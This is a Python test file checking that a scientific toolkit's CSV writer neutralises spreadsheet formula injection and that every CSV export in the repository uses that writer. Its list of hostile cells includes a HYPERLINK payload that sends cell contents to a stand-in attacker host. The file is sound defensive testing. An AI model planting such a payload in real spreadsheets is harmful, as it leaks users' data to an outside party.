"""CSV cells a spreadsheet would run as formulas are written inert, and read back as they were."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import numpy as np
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from tissue_core.csvtext import FORMULA_STARTS, csv_writer, inert_cell, restore_cell

REPO = Path(__file__).resolve().parents[2]

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
    "=1+2",
    "+A1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+2",
    "\r=1+2",
    "-",
    "+",
    "=",
    "-1 ",  # not a plain number: a space
    "-1_000",  # Python's float() takes it, a spreadsheet does not
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_a_spreadsheet_would_run_gets_a_quote(text):
    assert inert_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    ["-0.5", "+3", "-1e-05", "-inf", "-nan", "1e300", "S01", "", "'", "a=b", " =1", "runs/S01",
     -0.5, 3, float("-inf"), np.float64(-2.5), np.int64(-3), None],
)  # fmt: skip
def test_numbers_and_plain_text_are_written_as_they_are(value):
    assert inert_cell(value) is value


def test_a_quote_of_the_users_own_survives_the_round_trip():
    assert inert_cell("'=1+2") == "''=1+2"
    assert restore_cell("''=1+2") == "'=1+2"
    assert restore_cell("'plain") == "'plain"  # not one the writer made: kept
    assert restore_cell("'-0.5") == "'-0.5"


@given(st.text(alphabet=st.sampled_from(list("'=+-@\t\r 0123456789.eE_aA()\"&,")), max_size=12))
@example("'''=x")
@example("-1e5")
def test_restore_undoes_inert_and_the_result_never_starts_a_formula(text):
    cell = inert_cell(text)
    assert restore_cell(cell) == text
    if cell.startswith(FORMULA_STARTS):
        float(cell)  # only a plain number may start so


def test_the_writer_quotes_text_cells_and_csv_reads_them_back(tmp_path):
    path = tmp_path / "t.csv"
    with open(path, "w", newline="", encoding="utf-8") as f:
        w = csv_writer(f)
        w.writerow(["name", "group", "value"])
        w.writerows([[name, name, -0.5] for name in HOSTILE])
    with open(path, newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    assert rows[0] == ["name", "group", "value"]
    for row, name in zip(rows[1:], HOSTILE, strict=True):
        assert row[0] == row[1] == "'" + name
        assert row[2] == "-0.5"
        assert restore_cell(row[0]) == name


def _writes_csv_itself(source: str) -> list[str]:
    """The lines of ``source`` that make a CSV writer of the csv module directly."""
    return [
        line.strip()
        for line in source.splitlines()
        if re.search(r"\bcsv\.(writer|DictWriter)\(", line)
    ]


def test_every_csv_the_toolkit_writes_goes_through_the_inert_writer():
    """A CSV writer made anywhere else would write a hostile name as it is."""
    found = {}
    for package in ("tissue_core", "strain2d", "surface_strain", "stereo", "mpm3d",
                    "sample_data_synth"):  # fmt: skip
        for path in sorted((REPO / package).rglob("*.py")):
            if path == REPO / "tissue_core" / "csvtext.py":
                continue
            lines = _writes_csv_itself(path.read_text(encoding="utf-8"))
            if lines:
                found[str(path.relative_to(REPO))] = lines
    assert found == {}
    assert _writes_csv_itself("w = csv.writer(f)\n")  # the check finds what it looks for
